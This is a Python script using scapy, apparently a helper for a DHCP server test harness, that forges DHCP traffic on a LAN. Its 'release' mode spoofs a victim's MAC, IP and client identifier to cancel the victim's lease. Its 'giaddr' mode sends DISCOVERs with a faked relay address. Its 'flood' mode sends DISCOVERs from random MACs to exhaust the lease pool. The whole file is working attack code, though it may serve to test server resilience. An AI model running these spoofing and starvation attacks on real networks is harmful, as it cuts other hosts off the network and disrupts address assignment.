#!/usr/bin/python3
"""dhcpd-forged.py: forged DHCP messages from a host on the server's LAN,
for dhcpd-forged.sh.  Runs only under /usr/bin/python3 (python3-scapy).

    dhcpd-forged.py release IFACE SERVER_IP SERVER_MAC VICTIM_IP VICTIM_MAC OWN_IP
        three DHCPRELEASEs of the victim's lease, each with the victim's
        chaddr, client identifier and ciaddr: a broadcast frame and a
        unicast frame from our MAC with the victim's IP as source, and a
        datagram from our own address through the kernel; prints "sent 3"
    dhcpd-forged.py giaddr IFACE SERVER_IP GIADDR
        two DISCOVERs claiming to be relayed by GIADDR (another subnet's
        address): a datagram from our own address to SERVER_IP:67, and a
        broadcast frame from 0.0.0.0; prints "sent 2"
    dhcpd-forged.py flood IFACE COUNT SECONDS
        COUNT DISCOVERs from random MACs (frame source = chaddr, as a real
        client's) spread evenly over SECONDS; prints "sent COUNT"
"""
import os
import socket
import struct
import sys
import time

COOKIE = b"\x63\x82\x53\x63"


def ip2int(a):
    return struct.unpack("!I", socket.inet_aton(a))[0]


def mac2bytes(m):
    return bytes.fromhex(m.replace(":", ""))


def bootp(xid, chaddr, ciaddr=0, giaddr=0, flags=0, hops=0):
    """The 236-octet BOOTP header (RFC 2131 §2)."""
    return (struct.pack("!BBBBIHHIIII", 1, 1, 6, hops, xid, 0, flags, ciaddr, 0, 0, giaddr)
            + chaddr.ljust(16, b"\0") + b"\0" * 192)


def opt(code, data):
    return bytes([code, len(data)]) + data


def frame(src_mac, dst_mac, src_ip, dst_ip, payload):
    from scapy.all import Ether, IP, UDP, Raw
    return bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src_ip, dst=dst_ip)
                 / UDP(sport=68, dport=67) / Raw(payload))


def l2socket(iface):
    from scapy.all import conf
    conf.verb = 0
    return conf.L2socket(iface=iface)


def own_mac(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return f.read().strip()


def udp_send(payload, server, src_ip=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src_ip or "0.0.0.0", 68))
    s.sendto(payload, (server, 67))
    s.close()


def release(iface, server, server_mac, victim, victim_mac, own_ip):
    chaddr = mac2bytes(victim_mac)
    msg = (bootp(0x4e510001, chaddr, ciaddr=ip2int(victim)) + COOKIE + opt(53, b"\x07")
           + opt(54, socket.inet_aton(server)) + opt(61, b"\x01" + chaddr) + b"\xff")
    mine = own_mac(iface)
    s = l2socket(iface)
    s.send(frame(mine, "ff:ff:ff:ff:ff:ff", victim, "255.255.255.255", msg))
    s.send(frame(mine, server_mac, victim, server, msg))
    s.close()
    udp_send(msg, server, own_ip)
    print("sent 3")


def giaddr(iface, server, relay):
    msg = (bootp(0x4e520001, mac2bytes(own_mac(iface)), giaddr=ip2int(relay), hops=1)
           + COOKIE + opt(53, b"\x01") + b"\xff")
    udp_send(msg, server)
    s = l2socket(iface)
    s.send(frame(own_mac(iface), "ff:ff:ff:ff:ff:ff", "0.0.0.0", "255.255.255.255", msg))
    s.close()
    print("sent 2")


def flood(iface, count, seconds):
    frames = []
    for i in range(count):
        mac = b"\x02" + os.urandom(5)
        msg = (bootp(0x4e530000 + i, mac, flags=0x8000) + COOKIE + opt(53, b"\x01")
               + opt(61, b"\x01" + mac) + b"\xff")
        frames.append(frame(":".join("%02x" % b for b in mac), "ff:ff:ff:ff:ff:ff",
                            "0.0.0.0", "255.255.255.255", msg))
    s = l2socket(iface)
    start = time.monotonic()
    chunk = max(1, count // 100)
    for k in range(0, count, chunk):
        # Evenly spread: chunk k is due at k / count of the time.
        due = start + seconds * k / count
        while time.monotonic() < due:
            time.sleep(0.001)
        for f in frames[k:k + chunk]:
            s.send(f)
    s.close()
    print("sent %d in %.1f s" % (count, time.monotonic() - start))


def main():
    cmd = sys.argv[1]
    if cmd == "release":
        release(*sys.argv[2:8])
    elif cmd == "giaddr":
        giaddr(*sys.argv[2:5])
    elif cmd == "flood":
        flood(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    else:
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
